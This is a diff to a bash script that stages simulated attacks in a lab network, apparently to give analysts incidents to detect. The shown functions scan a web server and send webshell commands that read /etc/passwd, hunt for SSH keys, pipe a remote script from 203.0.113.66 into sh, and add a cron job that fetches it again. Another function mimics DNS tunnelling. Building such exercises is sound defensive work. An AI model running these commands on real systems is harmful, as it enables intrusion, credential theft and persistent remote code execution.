@@ -1,5 +1,3 @@
-# shellcheck shell=bash
-# shellcheck disable=SC2016  # dollar signs are for the other side
 # What the attackers do, sourced by record.sh: real tools against the lab's own services, bounded in count and time.
 # Each function is one story; an analyst should find them as incidents of their own.
 
@@ -13,8 +11,7 @@ att_curl() { # FROM CURL_ARGUMENTS...
 
 # 1. 203.0.113.66 takes web01 through the site: scan, directory search, injection, guessed login, webshell, persistence.
 story_web() {
-    local from=203.0.113.66
-    local webshell=$SITE/uploads/avatar.php
+    local from=203.0.113.66 shell=$SITE/uploads/avatar.php
     in_ns att timeout 60 nmap -n -Pn -sS -S "$from" -e eth0 --top-ports 300 -T4 10.20.1.10 >/dev/null || true
     in_ns att timeout 60 nmap -n -Pn -sV -p 22,80 --script http-title,http-server-header 10.20.1.10 >/dev/null || true
     words >"$LAB/words"
@@ -31,10 +28,10 @@ story_web() {
     for command in id whoami 'uname -a' 'cat /etc/passwd' 'ls -la /srv/site' 'cat /srv/site/common.php' \
         'find / -name id_rsa -type f' 'curl -s http://203.0.113.66:8000/i.sh | sh'; do
         sleep 3
-        att_curl "$from" -A "$BROWSER" -G --data-urlencode "cmd=$command" "$webshell"
+        att_curl "$from" -A "$BROWSER" -G --data-urlencode "cmd=$command" "$shell"
     done
     sleep 2
-    att_curl "$from" -A "$BROWSER" -G --data-urlencode 'cmd=(crontab -l; echo "*/10 * * * * curl -s http://203.0.113.66:8000/i.sh | sh") | crontab -' "$webshell"
+    att_curl "$from" -A "$BROWSER" -G --data-urlencode 'cmd=(crontab -l; echo "*/10 * * * * curl -s http://203.0.113.66:8000/i.sh | sh") | crontab -' "$shell"
 }
 
 # 2. 203.0.113.80 sprays and guesses SSH passwords of app02, gets in as ops, becomes root through sudo and stays.
@@ -89,9 +86,9 @@ story_probes() {
 
 # 4. A staff computer, 10.20.9.31, carries a program that tunnels over DNS and looks for a mining pool.
 story_tunnel() {
-    local name
-    for _ in $(seq 1 90); do
-        name=$(head -c 30 /dev/urandom | base32 -w0 | tr -d '=' | tr '[:upper:]' '[:lower:]')
+    local i name
+    for i in $(seq 1 90); do
+        name=$(head -c 30 /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
         in_ns usr dig +time=1 +tries=1 -b 10.20.9.31 @10.20.1.53 "$name.t.example.net" TXT >/dev/null || true
         sleep 0.5
     done
